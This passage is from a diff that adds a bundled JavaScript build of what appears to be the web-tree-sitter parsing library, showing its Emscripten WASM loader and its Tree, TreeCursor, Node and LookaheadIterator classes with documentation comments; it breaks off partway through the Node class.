+        var _iswxdigit = Module["_iswxdigit"] = wasmExports["iswxdigit"];
+        var _memchr = Module["_memchr"] = wasmExports["memchr"];
+        var _strlen = Module["_strlen"] = wasmExports["strlen"];
+        var _strcmp = Module["_strcmp"] = wasmExports["strcmp"];
+        var _strncat = Module["_strncat"] = wasmExports["strncat"];
+        var _strncpy = Module["_strncpy"] = wasmExports["strncpy"];
+        var _towlower = Module["_towlower"] = wasmExports["towlower"];
+        var _towupper = Module["_towupper"] = wasmExports["towupper"];
+        var _setThrew = wasmExports["setThrew"];
+        var __emscripten_stack_restore = wasmExports["_emscripten_stack_restore"];
+        var __emscripten_stack_alloc = wasmExports["_emscripten_stack_alloc"];
+        var _emscripten_stack_get_current = wasmExports["emscripten_stack_get_current"];
+        var ___wasm_apply_data_relocs = wasmExports["__wasm_apply_data_relocs"];
+        Module["setValue"] = setValue;
+        Module["getValue"] = getValue;
+        Module["UTF8ToString"] = UTF8ToString;
+        Module["stringToUTF8"] = stringToUTF8;
+        Module["lengthBytesUTF8"] = lengthBytesUTF8;
+        Module["AsciiToString"] = AsciiToString;
+        Module["stringToUTF16"] = stringToUTF16;
+        Module["loadWebAssemblyModule"] = loadWebAssemblyModule;
+        function callMain(args2 = []) {
+          var entryFunction = resolveGlobalSymbol("main").sym;
+          if (!entryFunction) return;
+          args2.unshift(thisProgram);
+          var argc = args2.length;
+          var argv = stackAlloc((argc + 1) * 4);
+          var argv_ptr = argv;
+          args2.forEach((arg) => {
+            LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, stringToUTF8OnStack(arg));
+            argv_ptr += 4;
+          });
+          LE_HEAP_STORE_U32((argv_ptr >> 2) * 4, 0);
+          try {
+            var ret = entryFunction(argc, argv);
+            exitJS(
+              ret,
+              /* implicit = */
+              true
+            );
+            return ret;
+          } catch (e) {
+            return handleException(e);
+          }
+        }
+        __name(callMain, "callMain");
+        function run(args2 = arguments_) {
+          if (runDependencies > 0) {
+            dependenciesFulfilled = run;
+            return;
+          }
+          preRun();
+          if (runDependencies > 0) {
+            dependenciesFulfilled = run;
+            return;
+          }
+          function doRun() {
+            Module["calledRun"] = true;
+            if (ABORT) return;
+            initRuntime();
+            preMain();
+            readyPromiseResolve(Module);
+            Module["onRuntimeInitialized"]?.();
+            var noInitialRun = Module["noInitialRun"];
+            if (!noInitialRun) callMain(args2);
+            postRun();
+          }
+          __name(doRun, "doRun");
+          if (Module["setStatus"]) {
+            Module["setStatus"]("Running...");
+            setTimeout(() => {
+              setTimeout(() => Module["setStatus"](""), 1);
+              doRun();
+            }, 1);
+          } else {
+            doRun();
+          }
+        }
+        __name(run, "run");
+        if (Module["preInit"]) {
+          if (typeof Module["preInit"] == "function") Module["preInit"] = [Module["preInit"]];
+          while (Module["preInit"].length > 0) {
+            Module["preInit"].pop()();
+          }
+        }
+        run();
+        moduleRtn = readyPromise;
+        return moduleRtn;
+      };
+    })();
+    if (typeof exports === "object" && typeof module === "object") {
+      module.exports = Module;
+      module.exports.default = Module;
+    } else if (typeof define === "function" && define["amd"])
+      define([], () => Module);
+  }
+});
+
+// src/index.ts
+var index_exports = {};
+__export(index_exports, {
+  CaptureQuantifier: () => CaptureQuantifier,
+  LANGUAGE_VERSION: () => LANGUAGE_VERSION,
+  Language: () => Language,
+  LookaheadIterator: () => LookaheadIterator,
+  MIN_COMPATIBLE_VERSION: () => MIN_COMPATIBLE_VERSION,
+  Node: () => Node,
+  Parser: () => Parser,
+  Query: () => Query,
+  Tree: () => Tree,
+  TreeCursor: () => TreeCursor
+});
+module.exports = __toCommonJS(index_exports);
+
+// src/constants.ts
+var SIZE_OF_SHORT = 2;
+var SIZE_OF_INT = 4;
+var SIZE_OF_CURSOR = 4 * SIZE_OF_INT;
+var SIZE_OF_NODE = 5 * SIZE_OF_INT;
+var SIZE_OF_POINT = 2 * SIZE_OF_INT;
+var SIZE_OF_RANGE = 2 * SIZE_OF_INT + 2 * SIZE_OF_POINT;
+var ZERO_POINT = { row: 0, column: 0 };
+var INTERNAL = Symbol("INTERNAL");
+function assertInternal(x) {
+  if (x !== INTERNAL) throw new Error("Illegal constructor");
+}
+__name(assertInternal, "assertInternal");
+function isPoint(point) {
+  return !!point && typeof point.row === "number" && typeof point.column === "number";
+}
+__name(isPoint, "isPoint");
+function setModule(module2) {
+  C = module2;
+}
+__name(setModule, "setModule");
+var C;
+
+// src/lookahead_iterator.ts
+var LookaheadIterator = class {
+  static {
+    __name(this, "LookaheadIterator");
+  }
+  /** @internal */
+  [0] = 0;
+  // Internal handle for WASM
+  /** @internal */
+  language;
+  /** @internal */
+  constructor(internal, address, language) {
+    assertInternal(internal);
+    this[0] = address;
+    this.language = language;
+  }
+  /** Get the current symbol of the lookahead iterator. */
+  get currentTypeId() {
+    return C._ts_lookahead_iterator_current_symbol(this[0]);
+  }
+  /** Get the current symbol name of the lookahead iterator. */
+  get currentType() {
+    return this.language.types[this.currentTypeId] || "ERROR";
+  }
+  /** Delete the lookahead iterator, freeing its resources. */
+  delete() {
+    C._ts_lookahead_iterator_delete(this[0]);
+    this[0] = 0;
+  }
+  /**
+   * Reset the lookahead iterator.
+   *
+   * This returns `true` if the language was set successfully and `false`
+   * otherwise.
+   */
+  reset(language, stateId) {
+    if (C._ts_lookahead_iterator_reset(this[0], language[0], stateId)) {
+      this.language = language;
+      return true;
+    }
+    return false;
+  }
+  /**
+   * Reset the lookahead iterator to another state.
+   *
+   * This returns `true` if the iterator was reset to the given state and
+   * `false` otherwise.
+   */
+  resetState(stateId) {
+    return Boolean(C._ts_lookahead_iterator_reset_state(this[0], stateId));
+  }
+  /**
+   * Returns an iterator that iterates over the symbols of the lookahead iterator.
+   *
+   * The iterator will yield the current symbol name as a string for each step
+   * until there are no more symbols to iterate over.
+   */
+  [Symbol.iterator]() {
+    return {
+      next: /* @__PURE__ */ __name(() => {
+        if (C._ts_lookahead_iterator_next(this[0])) {
+          return { done: false, value: this.currentType };
+        }
+        return { done: true, value: "" };
+      }, "next")
+    };
+  }
+};
+
+// src/tree.ts
+function getText(tree, startIndex, endIndex, startPosition) {
+  const length = endIndex - startIndex;
+  let result = tree.textCallback(startIndex, startPosition);
+  if (result) {
+    startIndex += result.length;
+    while (startIndex < endIndex) {
+      const string = tree.textCallback(startIndex, startPosition);
+      if (string && string.length > 0) {
+        startIndex += string.length;
+        result += string;
+      } else {
+        break;
+      }
+    }
+    if (startIndex > endIndex) {
+      result = result.slice(0, length);
+    }
+  }
+  return result ?? "";
+}
+__name(getText, "getText");
+var Tree = class _Tree {
+  static {
+    __name(this, "Tree");
+  }
+  /** @internal */
+  [0] = 0;
+  // Internal handle for WASM
+  /** @internal */
+  textCallback;
+  /** The language that was used to parse the syntax tree. */
+  language;
+  /** @internal */
+  constructor(internal, address, language, textCallback) {
+    assertInternal(internal);
+    this[0] = address;
+    this.language = language;
+    this.textCallback = textCallback;
+  }
+  /** Create a shallow copy of the syntax tree. This is very fast. */
+  copy() {
+    const address = C._ts_tree_copy(this[0]);
+    return new _Tree(INTERNAL, address, this.language, this.textCallback);
+  }
+  /** Delete the syntax tree, freeing its resources. */
+  delete() {
+    C._ts_tree_delete(this[0]);
+    this[0] = 0;
+  }
+  /** Get the root node of the syntax tree. */
+  get rootNode() {
+    C._ts_tree_root_node_wasm(this[0]);
+    return unmarshalNode(this);
+  }
+  /**
+   * Get the root node of the syntax tree, but with its position shifted
+   * forward by the given offset.
+   */
+  rootNodeWithOffset(offsetBytes, offsetExtent) {
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    C.setValue(address, offsetBytes, "i32");
+    marshalPoint(address + SIZE_OF_INT, offsetExtent);
+    C._ts_tree_root_node_with_offset_wasm(this[0]);
+    return unmarshalNode(this);
+  }
+  /**
+   * Edit the syntax tree to keep it in sync with source code that has been
+   * edited.
+   *
+   * You must describe the edit both in terms of byte offsets and in terms of
+   * row/column coordinates.
+   */
+  edit(edit) {
+    marshalEdit(edit);
+    C._ts_tree_edit_wasm(this[0]);
+  }
+  /** Create a new {@link TreeCursor} starting from the root of the tree. */
+  walk() {
+    return this.rootNode.walk();
+  }
+  /**
+   * Compare this old edited syntax tree to a new syntax tree representing
+   * the same document, returning a sequence of ranges whose syntactic
+   * structure has changed.
+   *
+   * For this to work correctly, this syntax tree must have been edited such
+   * that its ranges match up to the new tree. Generally, you'll want to
+   * call this method right after calling one of the [`Parser::parse`]
+   * functions. Call it on the old tree that was passed to parse, and
+   * pass the new tree that was returned from `parse`.
+   */
+  getChangedRanges(other) {
+    if (!(other instanceof _Tree)) {
+      throw new TypeError("Argument must be a Tree");
+    }
+    C._ts_tree_get_changed_ranges_wasm(this[0], other[0]);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = unmarshalRange(address);
+        address += SIZE_OF_RANGE;
+      }
+      C._free(buffer);
+    }
+    return result;
+  }
+  /** Get the included ranges that were used to parse the syntax tree. */
+  getIncludedRanges() {
+    C._ts_tree_included_ranges_wasm(this[0]);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = unmarshalRange(address);
+        address += SIZE_OF_RANGE;
+      }
+      C._free(buffer);
+    }
+    return result;
+  }
+};
+
+// src/tree_cursor.ts
+var TreeCursor = class _TreeCursor {
+  static {
+    __name(this, "TreeCursor");
+  }
+  /** @internal */
+  // @ts-expect-error: never read
+  [0] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  // @ts-expect-error: never read
+  [1] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  // @ts-expect-error: never read
+  [2] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  // @ts-expect-error: never read
+  [3] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  tree;
+  /** @internal */
+  constructor(internal, tree) {
+    assertInternal(internal);
+    this.tree = tree;
+    unmarshalTreeCursor(this);
+  }
+  /** Creates a deep copy of the tree cursor. This allocates new memory. */
+  copy() {
+    const copy = new _TreeCursor(INTERNAL, this.tree);
+    C._ts_tree_cursor_copy_wasm(this.tree[0]);
+    unmarshalTreeCursor(copy);
+    return copy;
+  }
+  /** Delete the tree cursor, freeing its resources. */
+  delete() {
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_delete_wasm(this.tree[0]);
+    this[0] = this[1] = this[2] = 0;
+  }
+  /** Get the tree cursor's current {@link Node}. */
+  get currentNode() {
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_current_node_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get the numerical field id of this tree cursor's current node.
+   *
+   * See also {@link TreeCursor#currentFieldName}.
+   */
+  get currentFieldId() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_field_id_wasm(this.tree[0]);
+  }
+  /** Get the field name of this tree cursor's current node. */
+  get currentFieldName() {
+    return this.tree.language.fields[this.currentFieldId];
+  }
+  /**
+   * Get the depth of the cursor's current node relative to the original
+   * node that the cursor was constructed with.
+   */
+  get currentDepth() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_depth_wasm(this.tree[0]);
+  }
+  /**
+   * Get the index of the cursor's current node out of all of the
+   * descendants of the original node that the cursor was constructed with.
+   */
+  get currentDescendantIndex() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_descendant_index_wasm(this.tree[0]);
+  }
+  /** Get the type of the cursor's current node. */
+  get nodeType() {
+    return this.tree.language.types[this.nodeTypeId] || "ERROR";
+  }
+  /** Get the type id of the cursor's current node. */
+  get nodeTypeId() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_node_type_id_wasm(this.tree[0]);
+  }
+  /** Get the state id of the cursor's current node. */
+  get nodeStateId() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_node_state_id_wasm(this.tree[0]);
+  }
+  /** Get the id of the cursor's current node. */
+  get nodeId() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_node_id_wasm(this.tree[0]);
+  }
+  /**
+   * Check if the cursor's current node is *named*.
+   *
+   * Named nodes correspond to named rules in the grammar, whereas
+   * *anonymous* nodes correspond to string literals in the grammar.
+   */
+  get nodeIsNamed() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_node_is_named_wasm(this.tree[0]) === 1;
+  }
+  /**
+   * Check if the cursor's current node is *missing*.
+   *
+   * Missing nodes are inserted by the parser in order to recover from
+   * certain kinds of syntax errors.
+   */
+  get nodeIsMissing() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_current_node_is_missing_wasm(this.tree[0]) === 1;
+  }
+  /** Get the string content of the cursor's current node. */
+  get nodeText() {
+    marshalTreeCursor(this);
+    const startIndex = C._ts_tree_cursor_start_index_wasm(this.tree[0]);
+    const endIndex = C._ts_tree_cursor_end_index_wasm(this.tree[0]);
+    C._ts_tree_cursor_start_position_wasm(this.tree[0]);
+    const startPosition = unmarshalPoint(TRANSFER_BUFFER);
+    return getText(this.tree, startIndex, endIndex, startPosition);
+  }
+  /** Get the start position of the cursor's current node. */
+  get startPosition() {
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_start_position_wasm(this.tree[0]);
+    return unmarshalPoint(TRANSFER_BUFFER);
+  }
+  /** Get the end position of the cursor's current node. */
+  get endPosition() {
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_end_position_wasm(this.tree[0]);
+    return unmarshalPoint(TRANSFER_BUFFER);
+  }
+  /** Get the start index of the cursor's current node. */
+  get startIndex() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_start_index_wasm(this.tree[0]);
+  }
+  /** Get the end index of the cursor's current node. */
+  get endIndex() {
+    marshalTreeCursor(this);
+    return C._ts_tree_cursor_end_index_wasm(this.tree[0]);
+  }
+  /**
+   * Move this cursor to the first child of its current node.
+   *
+   * This returns `true` if the cursor successfully moved, and returns
+   * `false` if there were no children.
+   */
+  gotoFirstChild() {
+    marshalTreeCursor(this);
+    const result = C._ts_tree_cursor_goto_first_child_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move this cursor to the last child of its current node.
+   *
+   * This returns `true` if the cursor successfully moved, and returns
+   * `false` if there were no children.
+   *
+   * Note that this function may be slower than
+   * {@link TreeCursor#gotoFirstChild} because it needs to
+   * iterate through all the children to compute the child's position.
+   */
+  gotoLastChild() {
+    marshalTreeCursor(this);
+    const result = C._ts_tree_cursor_goto_last_child_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move this cursor to the parent of its current node.
+   *
+   * This returns `true` if the cursor successfully moved, and returns
+   * `false` if there was no parent node (the cursor was already on the
+   * root node).
+   *
+   * Note that the node the cursor was constructed with is considered the root
+   * of the cursor, and the cursor cannot walk outside this node.
+   */
+  gotoParent() {
+    marshalTreeCursor(this);
+    const result = C._ts_tree_cursor_goto_parent_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move this cursor to the next sibling of its current node.
+   *
+   * This returns `true` if the cursor successfully moved, and returns
+   * `false` if there was no next sibling node.
+   *
+   * Note that the node the cursor was constructed with is considered the root
+   * of the cursor, and the cursor cannot walk outside this node.
+   */
+  gotoNextSibling() {
+    marshalTreeCursor(this);
+    const result = C._ts_tree_cursor_goto_next_sibling_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move this cursor to the previous sibling of its current node.
+   *
+   * This returns `true` if the cursor successfully moved, and returns
+   * `false` if there was no previous sibling node.
+   *
+   * Note that this function may be slower than
+   * {@link TreeCursor#gotoNextSibling} due to how node
+   * positions are stored. In the worst case, this will need to iterate
+   * through all the children up to the previous sibling node to recalculate
+   * its position. Also note that the node the cursor was constructed with is
+   * considered the root of the cursor, and the cursor cannot walk outside this node.
+   */
+  gotoPreviousSibling() {
+    marshalTreeCursor(this);
+    const result = C._ts_tree_cursor_goto_previous_sibling_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move the cursor to the node that is the nth descendant of
+   * the original node that the cursor was constructed with, where
+   * zero represents the original node itself.
+   */
+  gotoDescendant(goalDescendantIndex) {
+    marshalTreeCursor(this);
+    C._ts_tree_cursor_goto_descendant_wasm(this.tree[0], goalDescendantIndex);
+    unmarshalTreeCursor(this);
+  }
+  /**
+   * Move this cursor to the first child of its current node that contains or
+   * starts after the given byte offset.
+   *
+   * This returns `true` if the cursor successfully moved to a child node, and returns
+   * `false` if no such child was found.
+   */
+  gotoFirstChildForIndex(goalIndex) {
+    marshalTreeCursor(this);
+    C.setValue(TRANSFER_BUFFER + SIZE_OF_CURSOR, goalIndex, "i32");
+    const result = C._ts_tree_cursor_goto_first_child_for_index_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Move this cursor to the first child of its current node that contains or
+   * starts after the given byte offset.
+   *
+   * This returns the index of the child node if one was found, and returns
+   * `null` if no such child was found.
+   */
+  gotoFirstChildForPosition(goalPosition) {
+    marshalTreeCursor(this);
+    marshalPoint(TRANSFER_BUFFER + SIZE_OF_CURSOR, goalPosition);
+    const result = C._ts_tree_cursor_goto_first_child_for_position_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+    return result === 1;
+  }
+  /**
+   * Re-initialize this tree cursor to start at the original node that the
+   * cursor was constructed with.
+   */
+  reset(node) {
+    marshalNode(node);
+    marshalTreeCursor(this, TRANSFER_BUFFER + SIZE_OF_NODE);
+    C._ts_tree_cursor_reset_wasm(this.tree[0]);
+    unmarshalTreeCursor(this);
+  }
+  /**
+   * Re-initialize a tree cursor to the same position as another cursor.
+   *
+   * Unlike {@link TreeCursor#reset}, this will not lose parent
+   * information and allows reusing already created cursors.
+   */
+  resetTo(cursor) {
+    marshalTreeCursor(this, TRANSFER_BUFFER);
+    marshalTreeCursor(cursor, TRANSFER_BUFFER + SIZE_OF_CURSOR);
+    C._ts_tree_cursor_reset_to_wasm(this.tree[0], cursor.tree[0]);
+    unmarshalTreeCursor(this);
+  }
+};
+
+// src/node.ts
+var Node = class {
+  static {
+    __name(this, "Node");
+  }
+  /** @internal */
+  // @ts-expect-error: never read
+  [0] = 0;
+  // Internal handle for Wasm
+  /** @internal */
+  _children;
+  /** @internal */
+  _namedChildren;
+  /** @internal */
+  constructor(internal, {
+    id,
+    tree,
+    startIndex,
+    startPosition,
+    other
+  }) {
+    assertInternal(internal);
+    this[0] = other;
+    this.id = id;
+    this.tree = tree;
+    this.startIndex = startIndex;
+    this.startPosition = startPosition;
+  }
+  /**
+   * The numeric id for this node that is unique.
+   *
+   * Within a given syntax tree, no two nodes have the same id. However:
+   *
+   * * If a new tree is created based on an older tree, and a node from the old tree is reused in
+   *   the process, then that node will have the same id in both trees.
+   *
+   * * A node not marked as having changes does not guarantee it was reused.
+   *
+   * * If a node is marked as having changed in the old tree, it will not be reused.
+   */
+  id;
+  /** The byte index where this node starts. */
+  startIndex;
+  /** The position where this node starts. */
+  startPosition;
+  /** The tree that this node belongs to. */
+  tree;
+  /** Get this node's type as a numerical id. */
+  get typeId() {
+    marshalNode(this);
+    return C._ts_node_symbol_wasm(this.tree[0]);
+  }
+  /**
+   * Get the node's type as a numerical id as it appears in the grammar,
+   * ignoring aliases.
+   */
+  get grammarId() {
+    marshalNode(this);
+    return C._ts_node_grammar_symbol_wasm(this.tree[0]);
+  }
+  /** Get this node's type as a string. */
+  get type() {
+    return this.tree.language.types[this.typeId] || "ERROR";
+  }
+  /**
+   * Get this node's symbol name as it appears in the grammar, ignoring
+   * aliases as a string.
+   */
+  get grammarType() {
+    return this.tree.language.types[this.grammarId] || "ERROR";
+  }
+  /**
+   * Check if this node is *named*.
+   *
+   * Named nodes correspond to named rules in the grammar, whereas
+   * *anonymous* nodes correspond to string literals in the grammar.
+   */
+  get isNamed() {
+    marshalNode(this);
+    return C._ts_node_is_named_wasm(this.tree[0]) === 1;
+  }
+  /**
+   * Check if this node is *extra*.
+   *
+   * Extra nodes represent things like comments, which are not required
+   * by the grammar, but can appear anywhere.
+   */
+  get isExtra() {
+    marshalNode(this);
+    return C._ts_node_is_extra_wasm(this.tree[0]) === 1;
+  }
+  /**
+   * Check if this node represents a syntax error.
+   *
+   * Syntax errors represent parts of the code that could not be incorporated
+   * into a valid syntax tree.
+   */
+  get isError() {
+    marshalNode(this);
+    return C._ts_node_is_error_wasm(this.tree[0]) === 1;
+  }
+  /**
+   * Check if this node is *missing*.
+   *
+   * Missing nodes are inserted by the parser in order to recover from
+   * certain kinds of syntax errors.
+   */
+  get isMissing() {
+    marshalNode(this);
+    return C._ts_node_is_missing_wasm(this.tree[0]) === 1;
+  }
+  /** Check if this node has been edited. */
+  get hasChanges() {
+    marshalNode(this);
+    return C._ts_node_has_changes_wasm(this.tree[0]) === 1;
+  }
+  /**
+   * Check if this node represents a syntax error or contains any syntax
+   * errors anywhere within it.
+   */
+  get hasError() {
+    marshalNode(this);
+    return C._ts_node_has_error_wasm(this.tree[0]) === 1;
+  }
+  /** Get the byte index where this node ends. */
+  get endIndex() {
+    marshalNode(this);
+    return C._ts_node_end_index_wasm(this.tree[0]);
+  }
+  /** Get the position where this node ends. */
+  get endPosition() {
+    marshalNode(this);
+    C._ts_node_end_point_wasm(this.tree[0]);
+    return unmarshalPoint(TRANSFER_BUFFER);
+  }
+  /** Get the string content of this node. */
+  get text() {
+    return getText(this.tree, this.startIndex, this.endIndex, this.startPosition);
+  }
+  /** Get this node's parse state. */
+  get parseState() {
+    marshalNode(this);
+    return C._ts_node_parse_state_wasm(this.tree[0]);
+  }
+  /** Get the parse state after this node. */
+  get nextParseState() {
+    marshalNode(this);
+    return C._ts_node_next_parse_state_wasm(this.tree[0]);
+  }
+  /** Check if this node is equal to another node. */
+  equals(other) {
+    return this.tree === other.tree && this.id === other.id;
+  }
+  /**
+   * Get the node's child at the given index, where zero represents the first child.
+   *
+   * This method is fairly fast, but its cost is technically log(n), so if
+   * you might be iterating over a long list of children, you should use
+   * {@link Node#children} instead.
+   */
+  child(index) {
+    marshalNode(this);
+    C._ts_node_child_wasm(this.tree[0], index);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get this node's *named* child at the given index.
+   *
+   * See also {@link Node#isNamed}.
+   * This method is fairly fast, but its cost is technically log(n), so if
+   * you might be iterating over a long list of children, you should use
+   * {@link Node#namedChildren} instead.
+   */
+  namedChild(index) {
+    marshalNode(this);
+    C._ts_node_named_child_wasm(this.tree[0], index);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get this node's child with the given numerical field id.
+   *
+   * See also {@link Node#childForFieldName}. You can
+   * convert a field name to an id using {@link Language#fieldIdForName}.
+   */
+  childForFieldId(fieldId) {
+    marshalNode(this);
+    C._ts_node_child_by_field_id_wasm(this.tree[0], fieldId);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get the first child with the given field name.
+   *
+   * If multiple children may have the same field name, access them using
+   * {@link Node#childrenForFieldName}.
+   */
+  childForFieldName(fieldName) {
+    const fieldId = this.tree.language.fields.indexOf(fieldName);
+    if (fieldId !== -1) return this.childForFieldId(fieldId);
+    return null;
+  }
+  /** Get the field name of this node's child at the given index. */
+  fieldNameForChild(index) {
+    marshalNode(this);
+    const address = C._ts_node_field_name_for_child_wasm(this.tree[0], index);
+    if (!address) return null;
+    return C.AsciiToString(address);
+  }
+  /** Get the field name of this node's named child at the given index. */
+  fieldNameForNamedChild(index) {
+    marshalNode(this);
+    const address = C._ts_node_field_name_for_named_child_wasm(this.tree[0], index);
+    if (!address) return null;
+    return C.AsciiToString(address);
+  }
+  /**
+   * Get an array of this node's children with a given field name.
+   *
+   * See also {@link Node#children}.
+   */
+  childrenForFieldName(fieldName) {
+    const fieldId = this.tree.language.fields.indexOf(fieldName);
+    if (fieldId !== -1 && fieldId !== 0) return this.childrenForFieldId(fieldId);
+    return [];
+  }
+  /**
+    * Get an array of this node's children with a given field id.
+    *
+    * See also {@link Node#childrenForFieldName}.
+    */
+  childrenForFieldId(fieldId) {
+    marshalNode(this);
+    C._ts_node_children_by_field_id_wasm(this.tree[0], fieldId);
+    const count = C.getValue(TRANSFER_BUFFER, "i32");
+    const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(count);
+    if (count > 0) {
+      let address = buffer;
+      for (let i2 = 0; i2 < count; i2++) {
+        result[i2] = unmarshalNode(this.tree, address);
+        address += SIZE_OF_NODE;
+      }
+      C._free(buffer);
+    }
+    return result;
+  }
+  /** Get the node's first child that contains or starts after the given byte offset. */
+  firstChildForIndex(index) {
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    C.setValue(address, index, "i32");
+    C._ts_node_first_child_for_byte_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get the node's first named child that contains or starts after the given byte offset. */
+  firstNamedChildForIndex(index) {
+    marshalNode(this);
+    const address = TRANSFER_BUFFER + SIZE_OF_NODE;
+    C.setValue(address, index, "i32");
+    C._ts_node_first_named_child_for_byte_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get this node's number of children. */
+  get childCount() {
+    marshalNode(this);
+    return C._ts_node_child_count_wasm(this.tree[0]);
+  }
+  /**
+   * Get this node's number of *named* children.
+   *
+   * See also {@link Node#isNamed}.
+   */
+  get namedChildCount() {
+    marshalNode(this);
+    return C._ts_node_named_child_count_wasm(this.tree[0]);
+  }
+  /** Get this node's first child. */
+  get firstChild() {
+    return this.child(0);
+  }
+  /**
+   * Get this node's first named child.
+   *
+   * See also {@link Node#isNamed}.
+   */
+  get firstNamedChild() {
+    return this.namedChild(0);
+  }
+  /** Get this node's last child. */
+  get lastChild() {
+    return this.child(this.childCount - 1);
+  }
+  /**
+   * Get this node's last named child.
+   *
+   * See also {@link Node#isNamed}.
+   */
+  get lastNamedChild() {
+    return this.namedChild(this.namedChildCount - 1);
+  }
+  /**
+   * Iterate over this node's children.
+   *
+   * If you're walking the tree recursively, you may want to use the
+   * {@link TreeCursor} APIs directly instead.
+   */
+  get children() {
+    if (!this._children) {
+      marshalNode(this);
+      C._ts_node_children_wasm(this.tree[0]);
+      const count = C.getValue(TRANSFER_BUFFER, "i32");
+      const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+      this._children = new Array(count);
+      if (count > 0) {
+        let address = buffer;
+        for (let i2 = 0; i2 < count; i2++) {
+          this._children[i2] = unmarshalNode(this.tree, address);
+          address += SIZE_OF_NODE;
+        }
+        C._free(buffer);
+      }
+    }
+    return this._children;
+  }
+  /**
+   * Iterate over this node's named children.
+   *
+   * See also {@link Node#children}.
+   */
+  get namedChildren() {
+    if (!this._namedChildren) {
+      marshalNode(this);
+      C._ts_node_named_children_wasm(this.tree[0]);
+      const count = C.getValue(TRANSFER_BUFFER, "i32");
+      const buffer = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+      this._namedChildren = new Array(count);
+      if (count > 0) {
+        let address = buffer;
+        for (let i2 = 0; i2 < count; i2++) {
+          this._namedChildren[i2] = unmarshalNode(this.tree, address);
+          address += SIZE_OF_NODE;
+        }
+        C._free(buffer);
+      }
+    }
+    return this._namedChildren;
+  }
+  /**
+   * Get the descendants of this node that are the given type, or in the given types array.
+   *
+   * The types array should contain node type strings, which can be retrieved from {@link Language#types}.
+   *
+   * Additionally, a `startPosition` and `endPosition` can be passed in to restrict the search to a byte range.
+   */
+  descendantsOfType(types, startPosition = ZERO_POINT, endPosition = ZERO_POINT) {
+    if (!Array.isArray(types)) types = [types];
+    const symbols = [];
+    const typesBySymbol = this.tree.language.types;
+    for (const node_type of types) {
+      if (node_type == "ERROR") {
+        symbols.push(65535);
+      }
+    }
+    for (let i2 = 0, n = typesBySymbol.length; i2 < n; i2++) {
+      if (types.includes(typesBySymbol[i2])) {
+        symbols.push(i2);
+      }
+    }
+    const symbolsAddress = C._malloc(SIZE_OF_INT * symbols.length);
+    for (let i2 = 0, n = symbols.length; i2 < n; i2++) {
+      C.setValue(symbolsAddress + i2 * SIZE_OF_INT, symbols[i2], "i32");
+    }
+    marshalNode(this);
+    C._ts_node_descendants_of_type_wasm(
+      this.tree[0],
+      symbolsAddress,
+      symbols.length,
+      startPosition.row,
+      startPosition.column,
+      endPosition.row,
+      endPosition.column
+    );
+    const descendantCount = C.getValue(TRANSFER_BUFFER, "i32");
+    const descendantAddress = C.getValue(TRANSFER_BUFFER + SIZE_OF_INT, "i32");
+    const result = new Array(descendantCount);
+    if (descendantCount > 0) {
+      let address = descendantAddress;
+      for (let i2 = 0; i2 < descendantCount; i2++) {
+        result[i2] = unmarshalNode(this.tree, address);
+        address += SIZE_OF_NODE;
+      }
+    }
+    C._free(descendantAddress);
+    C._free(symbolsAddress);
+    return result;
+  }
+  /** Get this node's next sibling. */
+  get nextSibling() {
+    marshalNode(this);
+    C._ts_node_next_sibling_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /** Get this node's previous sibling. */
+  get previousSibling() {
+    marshalNode(this);
+    C._ts_node_prev_sibling_wasm(this.tree[0]);
+    return unmarshalNode(this.tree);
+  }
+  /**
+   * Get this node's next *named* sibling.
+   *
+   * See also {@link Node#isNamed}.
+   */
+  get nextNamedSibling() {
